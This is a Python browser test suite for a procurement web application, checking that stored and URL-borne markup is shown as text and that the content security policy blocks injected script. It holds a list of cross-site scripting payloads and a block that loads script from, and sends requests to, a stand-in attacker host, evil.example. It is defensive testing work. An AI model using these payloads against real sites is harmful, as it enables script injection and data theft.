"""Markup in every text that a person can write, looked at in Chromium: it is shown, and nothing of it runs."""

from __future__ import annotations

import json
import re
import uuid
from typing import Any

import pytest
from api import Session, fields_of
from attackers import described
from playwright.async_api import expect
from test_browser_every_page import settled

from chassis import contract
from infra.local.demo.records import id_of
from infra.local.demo.story import day_in, line_of
from infra.local.instance import Instance

pytestmark = pytest.mark.browser
RUNS = "window.__ran=(window.__ran||0)+1"
SCRIPTS = [
    f"<img src=x onerror={RUNS}>", f"<script>{RUNS}</script>", f"<svg/onload={RUNS}>", f"javascript:{RUNS}",
    f'"><iframe srcdoc="<script>{RUNS}">',
    "{{constructor.constructor('" + RUNS + "')()}}", f"<a href=javascript:{RUNS}>x</a>",
    f"<math><mtext></mtext><script>{RUNS}</script>", "<style>*{display:none}</style>", f"'-{RUNS}-'",
]  # fmt: skip
DOCUMENTS = [
    ("inventory.item_category", "/v1/inventory/item-categories", {"sourcingPolicy": "BUYER"}),
    ("inventory.unit", "/v1/inventory/units", {}),
    ("identity.department", "/v1/identity/departments", {}),
    ("identity.post", "/v1/identity/posts", {}),
    ("identity.role", "/v1/identity/roles", {}),
]


def texts_of(document: str) -> list[Any]:
    """Fields of a document that hold any text a person writes."""
    descriptor: Any = contract.load().documents[document].message.DESCRIPTOR
    found = []
    for field in descriptor.fields:
        spec, behaviours = contract.spec_of(field), contract.behaviours_of(field)
        free = spec.format in (0, 2) and not spec.references and not spec.HasField("decimal") and not spec.sensitive
        if field.type == field.TYPE_STRING and not contract.repeated(field) and free and 3 not in behaviours:
            found.append(field)
    return found


def fitting(field: Any, number: int) -> str:
    """One of the scripts that the field has room for; where none has, the beginning of one."""
    limit = contract.spec_of(field).max_length or 200
    for turn in range(len(SCRIPTS)):
        script = SCRIPTS[(number + turn) % len(SCRIPTS)]
        if len(script) <= limit:
            return script
    return SCRIPTS[0][:limit]


@pytest.fixture(scope="module")
async def planted(admin: Session, requester: Session) -> dict[str, tuple[str, str]]:
    """Documents full of markup: page address and a text that must be shown there, by document type."""
    found = {}
    company = id_of("identity.company", "SH")
    number = 0
    for document, path, more in DOCUMENTS:
        body: dict[str, Any] = {"code": f"X{uuid.uuid4().hex[:8]}".upper()} | more
        for field in texts_of(document):
            number += 1
            body.setdefault(field.json_name, fitting(field, number))
        answer = await admin.raw("POST", path, json.dumps(body), company=company)
        if answer.status_code == 400:  # a field with a rule of its own keeps its rule; its name is the point
            body = {name: value for name, value in body.items() if name in {"code", "name", *more}}
            answer = await admin.raw("POST", path, json.dumps(body), company=company)
        assert answer.status_code == 201, (document, fields_of(answer))
        page = path.removeprefix("/v1")
        found[document] = (f"{page}/{answer.json()['id']}?company={company}", body["name"])
    markup = {"title": SCRIPTS[0], "purpose": "\n".join(SCRIPTS), "deliveryPlace": SCRIPTS[2]}
    line = line_of({"item": "2002-0004", "quantity": "10"}) | {"note": SCRIPTS[1]}
    body = markup | {"currency": "CNY", "needDate": day_in(20), "lines": [line]}
    answer = await requester.raw("POST", "/v1/procurement/purchase-requisitions", json.dumps(body))
    assert answer.status_code == 201, described(answer)
    await requester.call("POST", f"/v1/procurement/purchase-requisitions/{answer.json()['id']}:submit", {})
    found["procurement.purchase_requisition"] = (
        f"/procurement/purchase-requisitions/{answer.json()['id']}?company={company}", SCRIPTS[0]
    )  # fmt: skip
    return found


async def look(made: Any, address: str, shown: str = "") -> None:
    """Open a page and see that nothing of it ran, and that the CSP had nothing to stop."""
    await made.go(address)
    await settled(made.page)
    if shown:
        await expect(made.page.get_by_text(shown).first).to_be_visible()
    assert await made.page.evaluate("window.__ran") is None, address
    inside = "[onerror], [onload], [srcdoc], a[href^='javascript:' i], main script, main iframe[srcdoc], math"
    assert await made.page.locator(inside).count() == 0, address


async def test_attack_stored_script_is_shown_as_text(window: Any, planted: Any) -> None:
    """Pages, forms, lists, the approver's screen, notices and history show it; no console, page or CSP error."""
    made = await window("administrator")
    for address, shown in planted.values():
        if "requisitions" in address:
            continue
        await look(made, address, shown)
        await look(made, address.replace("?", "/edit?"))
        await look(made, address.rpartition("/")[0], "")
    requisition, title = planted["procurement.purchase_requisition"]
    theirs = await window("requester")
    await look(theirs, requisition, title)
    await look(theirs, "/procurement/purchase-requisitions", title)
    approver = await window("first approver")
    await look(approver, "/", "")
    await look(approver, "/approval/tasks", title)
    await look(approver, requisition, title)


async def test_attack_by_the_next_person_at_the_same_browser(window: Any, planted: Any) -> None:
    """What somebody looked at is not kept in the browser after signing out."""
    made = await window("requester")
    address, title = planted["procurement.purchase_requisition"]
    await look(made, address, title)
    assert address.partition("?")[0] in await kept(made)
    made.expected.add(401)
    await made.page.get_by_role("banner").get_by_role("button", name=re.compile("沈佳怡")).click()
    await made.page.get_by_text(made.screen.t("frame.signOut"), exact=True).click()
    await expect(made.page.locator("#username")).to_be_visible()
    assert address.partition("?")[0] not in await kept(made)


async def kept(made: Any) -> str:
    """Everything in the browser's storage."""
    state = await made.context.storage_state()
    return " ".join(entry["value"] for origin in state["origins"] for entry in origin["localStorage"])


async def test_attack_script_in_an_address(window: Any, instance: Instance) -> None:
    """What stands in the address of a page is not run and leads nowhere else."""
    made = await window("requester")
    made.expected |= {400, 403, 404}
    for path in (
        f"/?company=<img src=x onerror={RUNS}>", f"/procurement/purchase-requisitions?search=<svg/onload={RUNS}>",
        f"/procurement/purchase-requisitions/<script>{RUNS}</script>", f"/#<img src=x onerror={RUNS}>",
        f"/procurement/purchase-requisitions?filter=%22><script>{RUNS}</script>",
    ):  # fmt: skip
        await made.page.goto(instance.url + path)
        await expect(made.page.locator("#root")).not_to_be_empty()
        assert await made.page.evaluate("window.__ran") is None, path
        assert made.page.url.startswith(instance.url), made.page.url


async def test_attack_injected_script_is_stopped_by_the_policy(window: Any, instance: Instance) -> None:
    """Were markup ever to become part of a page, the policy still would not run it, nor send anything away."""
    made = await window("requester")
    found = await made.page.evaluate(
        """async runs => {
            const stopped = [];
            document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
            const box = document.createElement('div');
            box.innerHTML = `<img src=x onerror="${runs}"><svg onload="${runs}"></svg><base href="https://evil.example/">
                <form action="https://evil.example/"></form>`;
            document.body.append(box);
            const script = document.createElement('script');
            script.textContent = runs;
            document.body.append(script);
            const far = document.createElement('script');
            far.src = 'https://evil.example/x.js';
            document.body.append(far);
            const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'stopped');
            await new Promise(done => setTimeout(done, 500));
            return {ran: window.__ran ?? 0, stopped, sent, base: document.baseURI};
        }""",
        RUNS,
    )
    made.faults.clear()  # the console tells each of them
    assert found["ran"] == 0
    assert {"script-src-elem", "script-src-attr", "connect-src", "base-uri"} <= set(found["stopped"])
    assert found["sent"] == "stopped"
    assert found["base"].startswith(instance.url)
